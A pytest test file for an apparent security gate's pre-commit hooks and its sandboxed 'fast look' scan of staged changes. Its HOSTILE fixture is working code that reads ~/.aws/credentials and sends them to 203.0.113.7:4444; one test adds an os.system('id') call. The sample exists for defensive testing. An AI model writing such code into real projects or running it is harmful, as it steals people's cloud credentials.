"""The hooks as pre-commit runs them, at a real `git commit`, and the fast look on what is staged."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from gate import api
from gate.cli import main
from gate.model.exercised import UnrunReason
from gate.model.score import Verdict
from gate.model.stage import SkipReason
from tests.e2e.pulls import Pull, build, git
from tests.paths import REPOSITORY

HOOKS = {hook["id"]: hook for hook in yaml.safe_load((REPOSITORY / ".pre-commit-hooks.yaml").read_text())}
CLEAN = "def one() -> int:\n    return 1\n"
HOSTILE = """
import os, socket
key = open(os.path.expanduser("~/.aws/credentials")).read()
peer = socket.create_connection(("203.0.113.7", 4444), 2)
peer.sendall(key.encode())
"""
pytestmark = pytest.mark.backend


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    made = build(Pull(name="hooks", head={"README.md": "# prices\n"}, verdicts=()), tmp_path)
    git(made, "config", "user.name", "Sam Shopkeeper")
    git(made, "config", "user.email", "sam@shop.example")
    return made


def commit(repo: Path, *words: str) -> subprocess.CompletedProcess[str]:
    """A person's `git commit`, with the programs of this environment on PATH."""
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    env = os.environ | {"PATH": path, "PRE_COMMIT_HOME": str(repo.parent / "pre-commit")}
    return subprocess.run(
        ["git", "-C", str(repo), "commit", *words], capture_output=True, text=True, env=env, timeout=240
    )


def installed(repo: Path, hook: str) -> None:
    """The hook of our manifest, taken from this environment instead of from a clone."""
    kept = {key: value for key, value in HOOKS[hook].items() if key not in ("language", "description")}
    config = {"repos": [{"repo": "local", "hooks": [kept | {"language": "system"}]}]}
    (repo / ".pre-commit-config.yaml").write_text(yaml.safe_dump(config))
    git(repo, "add", ".pre-commit-config.yaml")
    git(repo, "commit", "-q", "-m", "Hooks")
    subprocess.run(
        [sys.executable, "-m", "pre_commit", "install"], cwd=repo, check=True, capture_output=True, timeout=60
    )


def test_the_manifest_is_valid_and_its_options_exist(capsys: pytest.CaptureFixture[str]) -> None:
    file = REPOSITORY / ".pre-commit-hooks.yaml"
    subprocess.run([sys.executable, "-m", "pre_commit", "validate-manifest", file], check=True, timeout=60)
    assert set(HOOKS) == {"gate", "gate-fast"}
    assert main(["check", "--help"]) == 0
    known = capsys.readouterr().out
    for hook in HOOKS.values():
        program, verb, *options = hook["entry"].split()
        assert (program, verb) == ("gate", "check")
        assert all(option in known for option in options)


def test_a_commit_goes_on_and_an_attack_is_stopped_also_with_commit_all(repo: Path) -> None:
    installed(repo, "gate-fast")
    (repo / "src" / "pricing" / "one.py").write_text(CLEAN)
    git(repo, "add", "-A")
    done = commit(repo, "-m", "One")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Passed" in done.stdout + done.stderr
    (repo / "src" / "pricing" / "one.py").write_text(HOSTILE)
    done = commit(repo, "-a", "-m", "All")  # git makes an index for this commit alone
    assert done.returncode == 1, done.stdout + done.stderr
    assert "203.0.113.7:4444" in done.stdout + done.stderr
    assert git(repo, "log", "-1", "--format=%s") == "One"


def test_a_fast_look_says_what_it_left_and_has_the_fingerprints_of_the_full_one(repo: Path) -> None:
    (repo / "src" / "pricing" / "two.py").write_text(
        f"{HOSTILE}\n\ndef run() -> None:\n    os.system('id')\n"
    )
    git(repo, "add", "-A")
    box = {"sandbox.backend": "bubblewrap"}
    fast = api.check_uncommitted(repo, "staged", box | {"sandbox.fast": True})
    full = api.check_uncommitted(repo, "staged", box)
    assert fast.verdict is full.verdict is Verdict.FAIL
    (rest,) = [stage for stage in fast.stages if stage.skip_reason is SkipReason.FAST_LOOK]
    assert "1 call probe" in rest.reason
    known = {finding.fingerprint for finding in full.findings}
    ours = {f.fingerprint for f in fast.findings if f.rule_id != "unrun-sensitive"}
    assert ours
    assert ours <= known
    assert fast.exercised is not None
    reasons = {lines.reason for file in fast.exercised.files for lines in file.unrun}
    assert reasons == {UnrunReason.FAST_LOOK}
    assert {run.probe.phase for run in fast.sandbox.runs} == {"idle", "import"}


def test_a_clean_fast_look_is_warn_and_a_text_alone_can_pass(repo: Path) -> None:
    (repo / "src" / "pricing" / "one.py").write_text(CLEAN)
    git(repo, "add", "-A")
    quick = {"sandbox.fast": True}
    assert api.check_uncommitted(repo, "staged", quick).verdict is Verdict.WARN
    git(repo, "commit", "-q", "-m", "One")
    (repo / "README.md").write_text("# prices, again\n")
    git(repo, "add", "-A")
    assert api.check_uncommitted(repo, "staged", quick).verdict is Verdict.PASS


def test_nothing_staged_is_in_order_for_a_hook_only(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    words = ["check", "--repo", str(repo), "--staged", "--fast"]
    assert main(words) == 2
    capsys.readouterr()
    assert main([*words, "--allow-empty"]) == 0
    assert "nothing is staged; nothing was judged" in capsys.readouterr().err


def test_a_report_of_a_fast_look_is_read_back(repo: Path, tmp_path: Path) -> None:
    (repo / "src" / "pricing" / "one.py").write_text(CLEAN)
    git(repo, "add", "-A")
    file = tmp_path / "report.json"
    assert main(["check", "--repo", str(repo), "--staged", "--fast", "-q", "--json", str(file)]) == 0
    stages = json.loads(file.read_text())["stages"]
    assert "fast-look" in {stage.get("skip_reason") for stage in stages}
    assert api.read_report(file).verdict is Verdict.WARN
